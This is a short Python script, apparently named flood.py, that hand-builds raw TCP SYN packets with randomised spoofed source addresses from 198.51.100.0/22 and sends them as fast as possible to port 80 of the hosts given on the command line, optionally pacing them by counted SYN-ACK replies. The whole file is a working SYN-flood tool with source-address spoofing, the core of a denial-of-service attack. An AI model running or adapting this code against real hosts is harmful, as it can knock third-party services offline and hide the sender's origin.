"""flood.py [--unanswered N] DEVICE MAC ADDRESS...: SYNs to port 80 of each, from addresses of 198.51.100.0/22, until its standard input
ends. Then it prints how many there were. They go as fast as may be; with --unanswered, as fast as they are answered: so many at
most wait for it, and those that wait for a second are lost."""
import random
import select
import socket
import struct
import sys


def folded(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(head, to):
    source = bytes([198, 51, random.randrange(100, 104), random.randrange(1, 255)])
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), 80, random.getrandbits(32), 0, 5 << 4, 2, 1000, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", folded(source + to + struct.pack("!HH", 6, 20) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) + source + to
    return head + ip[:10] + struct.pack("!H", folded(ip)) + ip[12:] + tcp


def is_answer(frame):
    return frame[12:14] == b"\x08\x00" and frame[30:32] == b"\xc6\x33" and frame[23] == 6 and frame[47] & 0x12 == 0x12


def answered(wire):
    """Answers that have come; waits for one, but no more than a second."""
    wait, got = 1, 0
    while select.select([wire], [], [], wait)[0]:
        frame, address = wire.recvfrom(100)
        if address[2] != socket.PACKET_OUTGOING and is_answer(frame):
            got, wait = got + 1, 0
    return got


arguments = sys.argv[1:]
most = 0
if arguments[0] == "--unanswered":
    most = int(arguments[1])
    arguments = arguments[2:]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800) if most else 0)
wire.bind((arguments[0], 0x0800 if most else 0))
head = bytes.fromhex(arguments[1].replace(":", "")) + wire.getsockname()[4] + b"\x08\x00"
frames = [syn(head, socket.inet_aton(to)) for _ in range(20000 if most else 2000) for to in arguments[2:]]
sent = waiting = 0
while not select.select([sys.stdin], [], [], 0)[0]:
    some = frames[sent % len(frames):][:most - waiting if most else 200]
    for frame in some:
        try:
            wire.send(frame)
        except OSError:  # no room on the wire
            pass
        sent += 1
    if most:
        waiting += len(some)
        got = answered(wire)
        waiting = waiting - min(got, waiting) if got else 0
print(sent)
